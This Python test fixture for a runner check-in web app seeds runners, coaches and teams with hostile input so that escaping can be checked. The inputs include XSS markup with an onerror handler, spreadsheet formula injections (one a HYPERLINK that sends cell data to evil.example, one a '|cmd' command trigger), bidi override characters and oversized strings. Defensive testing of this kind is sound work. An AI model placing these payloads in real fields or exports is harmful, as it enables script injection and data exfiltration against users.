"""A team whose every name, reply, note and reason means harm, or is written otherwise than most."""

import json
from dataclasses import dataclass, replace
from datetime import datetime

from sqlalchemy import select, update

from checkin import links, service
from checkin.core.events import Act, CoachActed
from checkin.service import doing
from checkin.store import doings, people
from checkin.store.people import Coach
from checkin.store.tables import coach as coach_table
from checkin.store.tables import runner as runner_table
from checkin.store.tables import team as team_table
from checkin.web import create_app
from tests.service.cast import World
from tests.web.site import SETTINGS

EVIL = '<script>document.title="gone"</script><img src=x onerror="document.title=\'gone\'">"\'>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Sam")'
ARABIC = "سمير حداد"
STACK = "Z" + "\u0351\u036b\u0343\u0313\u0352" * 20 + "algo"

# Of the last three the door lets nobody in: they stand for what came by another way, or long ago.
NAMES = {
    "markup": EVIL,
    "formula": "=1+1|cmd",
    "link": FORMULA,
    "long": "x" * 2000,
    "arabic": ARABIC,
    "hebrew": "דוד 3",
    "emoji": "🏃🏽\u200d♀️🔥🦶",
    "stack": STACK,
    "override": "Ann \u202eevil\u202e",
    "unclosed": "Bea \u2067\u2067אבג",
    "mixed": f"\u202b{ARABIC} \u2066Jr. 3",
}
# What they write, and what coaches write of them.
WORDS = {
    "markup": f"2 {EVIL}",
    "formula": FORMULA,
    "long": "x" * 1500,
    "arabic": f"{ARABIC} 4",
    "override": "3 \u202eevil\u202e",
    "emoji": "🔥🦶",
    "stack": f"{STACK} 5",
    "tabbed": "\t=1+1",
}
COACHES = {"+12025550190": ARABIC, "+12025550191": EVIL, "+12025550192": "y" * 2000, "+12025550193": FORMULA}
FIRST = "+12025550190"  # the coach who signs in


@dataclass
class Still:
    """A stage for the demo's phone on which nothing moves."""

    coach_id: int

    def text(self, number: str, body: str) -> None:
        """Nobody hears it."""

    def pass_to(self, until: datetime) -> None:
        """Time stands."""


@dataclass
class Hostile:
    """The world, its runners by the kind of their names, and the coach who looks at them."""

    world: World
    runners: dict[str, int]
    coach: Coach

    def app(self, *, phone: bool = False) -> object:
        """The web as it is served, or with the demo's phone."""
        served = replace(self.world.services, settings=replace(SETTINGS, public_url="http://127.0.0.1"))
        return create_app(served, Still(self.coach.id) if phone else None)

    def address(self, kind: str, runner_id: int) -> str:
        """Of a runner's own page or sheet."""
        return links.address("", SETTINGS.secret_key, kind, runner_id, self.world.services.clock())


def number(at: int) -> str:
    return f"+12025551{at:03}"


def build(world: World) -> Hostile:
    """Everybody has answered, some with a danger sign; a coach has acted and taken some of it back."""
    coaches = [world.coach(number, name) for number, name in COACHES.items()]
    runners = {kind: world.runner(number(at), f"SLOT{at}.") for at, kind in enumerate(NAMES)}
    for at, (kind, runner_id) in enumerate(runners.items()):
        _call(world, runner_id, f"SLOT{at}.", NAMES[kind])
    world.at(days=1, hours=8)
    world.work()
    world.at(days=1, hours=9)
    for at, words in enumerate((*WORDS.values(), "2", "3", "1")):
        world.says(number(at), words)
    for at in (0, 1, 4):
        world.says(number(at), f"felt a pop in my calf {list(WORDS.values())[at]}")
    made = Hostile(world, runners, coaches[0])
    for kind, words in WORDS.items():
        _act(made, runners[kind if kind in runners else "hebrew"], words)
    _teams(made)
    return made


def _act(made: Hostile, runner_id: int, words: str) -> None:
    """A note, a text, and something that is done and undone."""
    services, by = made.world.services, made.coach
    now = services.clock()
    doing.write_down(services, runner_id, by.name, words, now)
    doing.say(services, runner_id, by.name, words[:250], now)
    flagged = made.world.state(runner_id).course.referral is not None
    if flagged and words != WORDS["markup"]:  # theirs stays loud
        doing.do(services, runner_id, CoachActed(now, by.name, Act.ACKNOWLEDGE, words[:500]), by.id)
    elif not flagged:
        doing.do(services, runner_id, CoachActed(now, by.name, Act.MOVE, words[:500], stage=2), by.id)
        with services.store.read() as tx:
            (last, *_) = doings.of_runner(tx, runner_id)
        doing.undo(services, runner_id, last.id, by.name, now)
    made.world.clock.now = now.replace(minute=now.minute + 1)


def _teams(made: Hostile) -> None:
    """Two teams with bad names, and a third that asks."""
    world = made.world
    other = service.add_team(world.services, "x" * 2000, "OTHER", "America/New_York")
    service.add_coach(world.services, made.coach.name, FIRST, other)
    third = service.add_team(world.services, EVIL, "THIRD", "America/New_York")
    eve = service.add_coach(world.services, "Eve", "+12025550194", third)
    service.invite_coach(world.services, eve, third, ARABIC, FIRST)
    with world.services.store.begin() as tx:
        named = team_table.update().where(team_table.c.id == world.team.id)
        tx.execute(named.values(name=f"{ARABIC} \u202e{EVIL}"))
        tx.execute(update(coach_table).values(told_at=world.services.clock()))
    with world.services.store.read() as tx:
        found = people.coach_by_number(tx, FIRST)
        assert found is not None
        made.coach = found


def _call(world: World, runner_id: int, slot: str, name: str) -> None:
    """Put a name where the record has another one, whatever the door would say to it."""
    mine = runner_table.c.id == runner_id
    with world.services.store.begin() as tx:
        state = str(tx.execute(select(runner_table.c.state).where(mine)).scalar_one())
        assert json.dumps(slot) in state
        state = state.replace(json.dumps(slot), json.dumps(name, ensure_ascii=False))
        tx.execute(update(runner_table).where(mine).values(state=state, name=name))
